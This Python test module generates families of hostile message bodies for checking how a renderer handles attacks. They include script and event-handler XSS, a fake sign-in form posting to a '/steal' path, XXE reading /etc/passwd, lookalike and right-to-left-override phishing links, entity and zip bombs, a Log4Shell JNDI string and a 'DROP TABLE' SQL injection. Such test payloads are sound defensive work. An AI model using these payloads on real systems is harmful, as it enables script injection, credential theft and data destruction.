"""Messages that try to load, run, freeze or deceive: families with parameters, the same in every run.

`HOST` and `FOLDER` stand for a computer and a folder that the test listens at.
"""

from __future__ import annotations

import base64
import io
import zipfile
from itertools import pairwise
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Iterator

HOST, FOLDER = "http://127.0.0.1:{port}", "{folder}"
TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_SIZES = (2_000, 400_000)
_TAGS = ("b", "div", "table", "blockquote", "font", "span", "ul", "details")
_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart")
_SCHEMES = (
    "javascript:alert(1)", "vbscript:msgbox", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd",
    "file://127.0.0.1/c$",
    "smb://127.0.0.1/x", "ms-msdt:/id", "search-ms:query", "tel:+1", "ftp://127.0.0.1/x", "qrc:/x", "about:blank", "jar:file:///x",
    "more:", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
)  # fmt: skip


class Message(NamedTuple):
    """A name for reports, and what is written."""

    name: str
    body: str


def messages(port: int, folder: str) -> list[Message]:
    """All of them."""
    return [
        each._replace(body=each.body.replace(HOST, f"http://127.0.0.1:{port}").replace(FOLDER, folder))
        for each in _all()
    ]


def _all() -> Iterator[Message]:
    for family in (_html, _loading, _schemes, _links, _sizes, _nested, _marks, _turned, _letters, _bombs):
        for number, body in enumerate(family()):
            yield Message(f"{family.__name__[1:]} {number}", body)


def _html() -> Iterator[str]:
    yield from (
        f"Hello <script>{each}</script>"
        for each in ("alert(1)", f"fetch('{HOST}/x')", "while(1);", "document.write('x')")
    )
    yield f"<script src={HOST}/x.js></script>"
    yield from (f'<img src=x {each}="alert(1)">' for each in _EVENTS)
    yield from (f'<{tag} style="width:expression(alert(1));background:url({HOST}/{tag})">x</{tag}>' for tag in _TAGS)
    yield f'<form action="{HOST}/steal"><input name=password autofocus><button>Sign in</button></form>'
    yield f'<meta http-equiv="refresh" content="0;url={HOST}/gone"><base href="{HOST}/">'
    yield from (
        f'<{tag} src="{HOST}/x" data="{HOST}/x"></{tag}>' for tag in ("iframe", "object", "embed", "frame", "applet")
    )
    yield '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'
    yield f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{HOST}/x.svg"/><use href="{HOST}/y#z"/></svg>'
    yield "<math><mi xlink:href='javascript:alert(1)'>x</mi></math><template><script>alert(1)</script></template>"
    yield "</style></p></body></html><h1>Out of the card</h1>"
    yield "-->]]><!--<b>half"
    yield '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield '"><a href="javascript:alert(1)">x</a><"'
    yield '<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:red;font-size:9999px">covered</p>'
    yield '<div style="display:none">hidden words</div><font color="#ffffff" size="+70">white on white</font>'
    yield "<style>*{color:red;font-size:400px} @import url('" + HOST + "/x.css');</style>"


def _loading() -> Iterator[str]:
    places = (
        f"{HOST}/p.png",
        f"file://{FOLDER}/canary.png",
        f"{FOLDER}/canary.png",
        "//127.0.0.1/x.png",
        "\\\\127.0.0.1\\x.png",
    )
    for place in places:
        yield f'<img src="{place}">'
        yield f"![picture]({place})"
        yield f'<body background="{place}"><table background="{place}"><tr><td background="{place}">x</table>'
        yield f'<ul style="list-style-image:url({place})"><li>x</ul><hr style="border-image:url({place})">'
        yield f'<link rel="stylesheet" href="{place}"><style>@font-face{{src:url({place})}} p{{background:url({place})}}</style>'
        yield f"[{place}]: {place}\n\n![x][{place}]"
    yield f'<img src="data:image/svg+xml,<svg><image href={HOST}/x></svg>">'
    yield '<img src="data:image/png;base64,' + "A" * 20_000 + '">'
    yield f'<video src="{HOST}/v" poster="{HOST}/p" autoplay></video><audio src="{HOST}/a" autoplay></audio>'
    yield f'<img srcset="{HOST}/1 1x, {HOST}/2 2x"><picture><source srcset="{HOST}/3"></picture>'


def _schemes() -> Iterator[str]:
    for each in _SCHEMES:
        yield f"[your ticket]({each})"
        yield f'<a href="{each}">your ticket</a> {each}'


def _links() -> Iterator[str]:
    yield "[https://intranet.example.org](https://evil.example.net/login)"
    yield "[intranet.example.org](https://intranet.example.org.evil.example.net)"
    yield "https://intranet.example.org@evil.example.net/login"
    yield "https://intranet.example.org:pass@evil.example.net"
    yield "https://\u0430pple.com/ https://g\u03bf\u03bfgle.com https://payp\u0430l.com/x [paypal.com](https://payp\u0430l.com)"
    yield "https://evil.example.net/\u202egro.elpmaxe.tenartni//:sptth"
    yield "[in\u200btranet.example.org](https://evil.example.net)"
    yield "https://intranet.example.org\u2044x.evil.example.net/ https://intranet.example.org\uff0fevil.example.net"
    yield 'https://x.example.org/"onmouseover="alert(1)"> https://x.example.org/<img/src=x>'
    yield "https://x.example.org/%0d%0aSet-Cookie:x https://[::1]/ https://2130706433/ https://0x7f.1/"
    yield "https://" + "a." * 300 + "example.net https://[not-an-address/ https://a..b https://-.- http://"
    yield "[x](https://evil.example.net) " * 40
    yield "[mail us](mailto:help@example.org?bcc=evil@example.net&body=x)"
    yield "[x](https://a.example.net\n) [\n](https://b.example.net) [](https://c.example.net)"
    yield "[**`https://intranet.example.org`**](https://evil.example.net)"
    yield f"[open]({HOST}/clicked) {HOST}/bare"


def _sizes() -> Iterator[str]:
    for size in _SIZES:
        yield "x" * size
        yield "word " * (size // 5)
        yield "a\n" * (size // 2)
        yield "- item\n" * (size // 7)
        yield "1. item\n" * (size // 8)
        yield "> quote\n" * (size // 8)
        yield "\n" * size
        yield " " * size + "x"
        yield "😀" * size
        yield "مرحبا " * (size // 6)
        yield "<table>" + "<tr>" + "<td>x</td>" * (size // 10) + "</tr></table>"
        yield "https://example.org/" + "a" * size
        yield "漢" * size
        yield "\t" * size


def _nested() -> Iterator[str]:
    for size in (100, 40_000):
        for tag in _TAGS[:4]:
            yield f"<{tag}>" * size
        yield ">" * size + " deep"
        yield "[" * size + "x" + "](https://a.example)" * size
        yield "((" * size
        yield "{> a}" * size


def _marks() -> Iterator[str]:
    for sign in (
        "*",
        "**",
        "_",
        "`",
        "[",
        "](",
        "***",
        "*a ",
        "**a ",
        "_a ",
        "`a ",
        "[a](",
        "https://,",
        "**a* ",
        "#",
        "1.",
        "- ",
    ):
        yield sign * 20_000
    yield "**" + "a" * 50_000
    yield "[" + "a" * 50_000 + "](" + "b" * 50_000
    yield "\x000\x00 \x001\x00 `x` \x00999999\x00"


def _turned() -> Iterator[str]:
    for sign in TURNING:
        yield f"Pay 100{sign}001 euros"
        yield f"{sign}https://example.org/{sign}x"
        yield f"**{sign}**[{sign}](https://example.org)`{sign}`"
    yield "invoice\u202egpj.exe"
    yield "\u202e" * 5_000 + "x"
    yield "\u2067" * 5_000 + "x" + "\u2069" * 5_000
    yield "a \u2067if isAdmin \u2066 // check\u2069 \u2066 return"


def _letters() -> Iterator[str]:
    yield "".join(chr(each) for each in range(0x20))
    yield "".join(chr(each) for each in range(0x7F, 0xA0))
    yield from ("a" + chr(mark) * often for mark in (0x301, 0x489, 0x20DD) for often in (20, 20_000))
    yield "ﷺ" * 5_000
    yield "\u200b\u200d\u2060\ufeff" * 3_000 + "x"
    yield "👨‍👩‍👧‍👦" * 2_000
    yield "".join(chr(0xE0000 + ord(each)) for each in "hidden orders") + "x"
    yield "\ud83d".encode("utf-8", "replace").decode() + "\ufffe\uffff\ufdd0"
    yield "𝐓𝐡𝐢𝐬 ⓘⓢ ｗｉｄｅ\u3164\u115f\u1160 x"
    yield "सलाम" * 3_000 + "ཧཱུྃ" * 500


def _bombs() -> Iterator[str]:
    letters = "abcdefghi"
    nine = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(letters))
    yield f'<!DOCTYPE x [<!ENTITY a "ha">{nine}]><x>&i;</x>'
    yield "&amp;" * 20_000 + "&#x202e;&#0;&#x110000;&lt;script&gt;&nbsp;&bogus;"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * 5_000_000)
    yield "archive.zip\n" + base64.b64encode(packed.getvalue()).decode()
    yield "begin 644 x.exe\n" + "M" * 60_000 + "\nend"
    yield "Content-Type: multipart/mixed; boundary=x\n\n" + "--x\n" * 5_000
    yield "{ask:" * 3_000 + "{a, plural, other {" * 3_000
    yield "{\\rtf1" + "{\\object" * 2_000
    yield "%n%s%x" * 2_000 + "${jndi:ldap://127.0.0.1/x}{{7*7}}"
    yield "\x1b[2J\x1b]0;title\x07\x1b[31mred"
    yield "'; DROP TABLE message; --"
